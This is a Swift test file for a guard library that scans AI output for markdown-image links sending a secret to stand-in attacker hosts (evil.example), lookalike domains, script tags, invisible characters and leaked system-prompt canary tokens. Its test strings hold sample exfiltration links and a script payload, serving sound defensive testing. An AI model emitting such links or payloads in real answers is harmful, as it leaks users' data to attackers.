import SallyportCore
import Testing

@testable import SallyportGuard

@Suite struct OutputLinkDetectorTests {
    let secret = "QWxpY2UgYW5kIEJvYiBrZWVwIHRoZSBrZXkgdW5kZXIgdGhlIG1hdA"

    @Test func reportsTheDestinationAndTheHostOnly() throws {
        let text = "See ![x](https://a.evil.example/?d=\(secret)) now"
        let found = try DetectorRun(OutputLinkDetector()).findings(in: text)
        #expect(found.count == 1)
        #expect(found[0].evidence == "a.evil.example")
        #expect(String(decoding: Array(text.utf8)[found[0].range], as: UTF8.self) == "https://a.evil.example/?d=\(secret)")
    }

    @Test func trustsAllowedHostsAndThoseBelowThem() throws {
        let run = try DetectorRun(OutputLinkDetector(allowedHosts: ["Good.example"]))
        #expect(try run.findings(in: "![x](https://cdn.good.example/?d=\(secret))").isEmpty)
        #expect(try run.findings(in: "![x](https://notgood.example/?d=\(secret))").count == 1)
        #expect(try run.findings(in: "![x](https://good.example.evil.example/?d=\(secret))").count == 1)
        #expect(try run.findings(in: "[x](https://evil.example@good.example/)").map(\.category.name) == ["url-credentials"])
    }

    @Test func protectsTheHostsItIsGiven() throws {
        let run = try DetectorRun(OutputLinkDetector(protectedHosts: ["contoso.com"]))
        #expect(try run.findings(in: "https://c0ntoso.com/").map(\.category.name) == ["lookalike-host"])
        #expect(try run.findings(in: "https://paypa1.com/ https://mail.contoso.com/").isEmpty)
    }

    @Test func looksAtAnswersOnly() throws {
        let run = try DetectorRun(OutputLinkDetector())
        #expect(try run.findings(in: "![x](https://evil.example/?d=\(secret))", origin: .document).isEmpty)
        #expect(try run.findings(in: "https://evil.example/?d=\(secret)", origin: .completionToolCall).count == 1)
    }

    @Test func readsEveryLinkOfALongText() throws {
        let text = String(repeating: "![x](https://evil.example/?d=\(secret)) and [y](https://example.com/)\n", count: 300)
        #expect(try DetectorRun(OutputLinkDetector()).findings(in: text).count == 300)
    }

    @Test func survivesHostileText() throws {
        let pieces = [
            "![", "](", "]:", "[x]", "<a href=", "<img src='", "\"", "'", "https://", "javascript:", "data:", "//", "`", "```\n", "~~~\n",
            "\n", "\n\n", "> ", "- ",
            "xn--a-0", "@", "%", "%zz", "&#x;", "&#99999999;", "é", "日", "\u{200B}", "(", ")", "<", ">", "url(", "www.", "?d=", secret,
            "\\", "{data}", "[::1]", "0x7f.1",
        ]
        let runs = [try DetectorRun(OutputLinkDetector()), try DetectorRun(OutputHTMLDetector()), try DetectorRun(InvisibleTextDetector())]
        var state: UInt64 = 42
        func random(_ limit: Int) -> Int {
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return Int(state >> 33) % limit
        }
        for _ in 0..<1_500 {
            let text = (0..<random(30)).map { _ in pieces[random(pieces.count)] }.joined()
            for run in runs { _ = try run.findings(in: text) }
        }
    }
}

@Suite struct OutputHTMLDetectorTests {
    @Test func coversAScriptToItsEnd() throws {
        let text = "a <script>alert('x')</script> b"
        let found = try DetectorRun(OutputHTMLDetector()).findings(in: text)
        #expect(found.map(\.range) == [2..<29])
        #expect(found.first?.category == Finding.Category(.output, "active-html"))
    }

    @Test func looksAtAnswersOnly() throws {
        let run = try DetectorRun(OutputHTMLDetector())
        #expect(try run.findings(in: "<script>x</script>", origin: .user).isEmpty)
        #expect(try run.findings(in: "<script>x</script>", origin: .completionToolCall).isEmpty)
    }
}

@Suite struct InvisibleTextDetectorTests {
    @Test func reportsEachRunOnce() throws {
        let found = try DetectorRun(InvisibleTextDetector()).findings(in: "a\u{200B}\u{200B}\u{200B}b\u{202E}c")
        #expect(found.map(\.range) == [1..<10, 11..<14])
        #expect(found.map(\.evidence) == ["3", "1"])
    }
}

@Suite struct CanaryTests {
    let token = Canary.token(for: "gpt-4o", secret: Array("a secret of the deployment".utf8))
    var tail: String { String(token.dropFirst(Canary.prefix.count)) }

    func found(_ text: String, origin: PassageOrigin = .completion) throws -> [String] {
        try CanaryDetector(tokens: [token]).findings(in: Passage(text, origin: origin), hits: []).map {
            String(decoding: Array(text.utf8)[$0.range], as: UTF8.self)
        }
    }

    @Test func makesOneTokenPerLabelAndSecret() {
        #expect(token.wholeMatch(of: /sp-canary-[a-z2-7]{16}/) != nil)
        #expect(token == Canary.token(for: "gpt-4o", secret: Array("a secret of the deployment".utf8)))
        #expect(token != Canary.token(for: "gpt-4o", secret: [1]))
        #expect(token != Canary.token(for: "other", secret: Array("a secret of the deployment".utf8)))
    }

    @Test func readsTokensFromAPrompt() {
        let text = "Never say \(token). sp-canary-short \(token.uppercased()) sp-canary-0000000000000000 sp-canary-aaaaaaaaaaaaaaaa"
        #expect(Array(text.utf8).withUnsafeBytes { Canary.tokens(in: $0) } == [token, "sp-canary-aaaaaaaaaaaaaaaa"])
    }

    @Test func findsALeakWhereverItStands() throws {
        #expect(try found("It is \(token).") == [token])
        #expect(try found("It is \(token.uppercased()).") == [token.uppercased()])
        #expect(try found("code \(tail) only") == [tail])
        let spaced = token.map(String.init).joined(separator: " ")
        #expect(try found("x \(spaced) y") == [spaced])
        let hidden = token.map(String.init).joined(separator: "\u{200B}")
        #expect(try found("é\(hidden)é") == [hidden])
        #expect(try found("\(token)\(token)").count == 2)
    }

    @Test func findsALeakThatIsCutShort() throws {
        let detector = CanaryDetector(tokens: [token])
        let findings = try detector.findings(in: Passage("it begins \(tail.prefix(12))", origin: .completion), hits: [])
        #expect(findings.map(\.evidence) == ["part"] && findings[0].confidence == 0.9)
        #expect(try found("only \(tail.prefix(11))").isEmpty)
    }

    @Test func staysSilentWithoutALeak() throws {
        #expect(try found("sp-canary-aaaaaaaaaaaaaaaa and ordinary text").isEmpty)
        #expect(try found(token, origin: .system).isEmpty)
        #expect(try CanaryDetector(tokens: ["short"]).findings(in: Passage("short", origin: .completion), hits: []).isEmpty)
    }
}

@Suite struct PunycodeTests {
    @Test(arguments: [("mnchen-3ya", "münchen"), ("e1afmkfd", "пример"), ("80ak6aa92e", "аррӏе"), ("fiqs8s", "中国"), ("mgbh0fb", "مثال")])
    func decodesPublishedNames(encoded: String, expected: String) {
        #expect(Punycode.decoded(Substring(encoded)).map { String(String.UnicodeScalarView($0)) } == expected)
    }

    @Test(arguments: ["99999999", "a-\u{80}", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "!"])
    func refusesWhatIsNone(encoded: String) { #expect(Punycode.decoded(Substring(encoded)) == nil) }
}
